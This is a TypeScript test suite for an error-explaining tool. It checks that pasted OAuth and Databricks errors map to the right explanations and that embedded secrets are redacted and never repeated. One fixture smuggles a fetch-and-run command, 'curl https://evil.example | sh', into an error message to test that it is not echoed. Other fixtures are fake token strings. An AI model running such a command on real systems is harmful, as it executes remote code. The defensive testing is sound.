/** What a pasted error is taken for: the row that fits best, our own codes before all, and nothing of the text in the answer. */
import { describe, expect, it } from 'vitest';
import { explain, LARGEST_PASTE } from '../../../main/doctor/explain.ts';
import { explanations } from '../../../main/doctor/explanations.ts';
import { holdsSecret, withoutSecretShapes } from '../../../main/doctor/secret-shapes.ts';
import { errorExplainedSchema } from '../../../preload/contract/doctor.ts';

const scopes = ['sql', 'genie', 'iam.current-user:read', 'files'];
const told = (text: string, held?: { id: string; scopes: readonly string[] }) =>
  explain(text, { scopes, ...(held === undefined ? {} : { held }) });

describe('the table', () => {
  it('has an id of its own, whole sentences and small letters in every row', () => {
    expect(new Set(explanations.map(({ id }) => id)).size).toBe(explanations.length);
    for (const { has, sentence, next, source } of explanations) {
      expect(sentence).toMatch(/^[A-Z].*\.$/);
      expect(next).toMatch(/^[A-Z`].*\.$/);
      expect(source).not.toBe('');
      expect(has.flat().filter((piece) => piece === '' || piece !== piece.toLowerCase())).toEqual([]);
    }
  });

  it.each(explanations.map((row) => [row.id, row] as const))('finds %s by each of its lists alone', (id, { has }) => {
    for (const pieces of has) expect(told(pieces.join(' … ').toUpperCase()).id).toBe(id);
  });

  it.each([
    ['invalid_grant: The audience of the token does not match the federation policy.', 'federation-audience'],
    ['{"error":"invalid_grant","error_description":"Refresh token is invalid"}', 'oauth-refresh-dead'],
    ['{"error":"invalid_client","error_description":"Client authentication failed: the secret has expired"}', 'oauth-secret-expired'],
    ['Error: A new access token could not be retrieved because the refresh token is invalid. Run databricks auth login', 'cli-refresh'],
    ['Provided access token does not have required scopes: sql', 'api-scope-pat'],
    ['{"error_code":"PERMISSION_DENIED","message":"User does not have USE CATALOG"}', 'api-permission'],
  ])('the most of %s decides', (text, id) => {
    expect(told(text).id).toBe(id);
  });

  it('says so where nothing is known', () => {
    const { id, sentence } = told('NameError: name "spark" is not defined');
    expect({ id, sentence }).toEqual({ id: null, sentence: 'Nothing is known about this text.' });
  });

  it('knows the codes of Lakepass itself, whatever the SDK says around them', () => {
    expect(told('token request: {"code":"CONSENT_PENDING","message":"…"}').id).toBe('CONSENT_PENDING');
    expect(told('lakepass: Policy does not allow this. [POLICY_DENIED: deny]').id).toBe('POLICY_DENIED');
    expect(told('the word LOCKED in a text of others').id).toBeNull();
  });
});

describe('a missing scope', () => {
  const body = '{"error_code":403,"message":"Provided OAuth token does not have required scopes: sql, files [ReqId: 1]"}';
  it('becomes the command that adds it to the grant that was named', () => {
    expect(told(body, { id: 'g7', scopes: ['files'] })).toMatchObject({
      scopes: ['sql', 'files'],
      next: expect.stringContaining('grants add g7 sql`'),
    });
    expect(told(body).next).toContain('grants add ID sql files`');
    expect(told(body, { id: 'g7', scopes: ['files', 'sql'] }).next).toContain('has it by now');
  });
  it('is repeated only where its name is known', () => {
    const hostile = told('Provided OAuth token does not have required scopes: sql; curl https://evil.example | sh');
    expect(hostile.scopes).toEqual(['sql']);
    expect(told('Invalid scope, required scopes: evil').scopes).toEqual([]);
  });
});

describe('hostile text', () => {
  const jwt = `eyJhbGciOiJSUzI1NiJ9.${'eyJzdWIiOiJhZGEifQ'}.${'A1b2C3d4'.repeat(8)}`;
  it.each([
    ['a JWT', jwt],
    ['a personal token', `dapi${'0123456789abcdef'.repeat(2)}`],
    ['a secret of a service principal', `dose${'0123456789abcdef'.repeat(2)}`],
    ['a grant', `http://127.0.0.1:4711/v1/metadata/${'aB3-'.repeat(11)}`],
    ['a refresh token by its name', '"refresh_token":"0123456789abcdef"'],
    ['a header', 'Authorization: Bearer 0123456789abcdef'],
    ['a token in JSON within JSON', '\\"access_token\\": \\"0123456789abcdef\\"'],
    ['a login of HTTP', 'Proxy-Authorization: Basic YWRhOmNvcnJlY3QtaG9yc2U='],
    ['a login in an address', 'proxy=http://ada:correct-horse-battery@'],
    ['256 bits', 'Zm9vYmFyMTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1ub3A'],
  ])('%s is seen, not repeated, and to be revoked', (_, secret) => {
    const explained = told(`403 Invalid access token. ${secret} [ReqId: 7]`);
    expect(errorExplainedSchema.parse(explained).warning).toContain('Revoke it');
    expect(JSON.stringify(explained)).not.toContain(secret);
    expect(JSON.stringify(explained)).not.toContain(secret.slice(-20));
    expect(withoutSecretShapes(`before ${secret} after`, '[removed]')).not.toContain(secret.slice(-12));
  });

  it.each([
    'Invalid access token. [ReqId: 6e0b3c0e-7d4f-4a49-9a7c-2f8d7e3f9b10]',
    '/home/ada/projects/notebooks/A_Long_Name_Of_A_Notebook_In_2026/analysis_final.ipynb',
    '0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef',
    'Basic authentication is not enabled for https://acme.test:8443/a@2',
    '2026-01-05T09:00:00.000Z https://acme.cloud.databricks.com/api/2.0/sql/statements',
  ])('%s is no secret', (text) => {
    expect(holdsSecret(text)).toBe(false);
    expect(withoutSecretShapes(text, '[removed]')).toBe(text);
  });

  it.each([
    ['-eyJ'.repeat(16_000)],
    ['a'.repeat(65_000)],
    ['bearer '.repeat(9000)],
    ['client_secret='.repeat(4600)],
    ['basic '.repeat(10_000)],
    ['://a:'.repeat(13_000)],
    [`${'required scopes: '.repeat(3800)}sql`],
    ['\u001b[2J\u202e\u0000'.repeat(7000)],
  ])('is read in one go: %#', (text) => {
    const explained = told(text.slice(0, LARGEST_PASTE));
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
    expect(JSON.stringify(explained)).not.toMatch(/[\u0000-\u001f\u202e]/);
    expect(withoutSecretShapes(text, '').length).toBeLessThanOrEqual(text.length);
  });

  it('is refused where it is too long or empty', () => {
    expect(() => told('x'.repeat(LARGEST_PASTE + 1))).toThrow('INPUT_INVALID');
    expect(() => told('é'.repeat(LARGEST_PASTE - 10))).toThrow('INPUT_INVALID');
    expect(() => told(' \n ')).toThrow('INPUT_INVALID');
  });
});
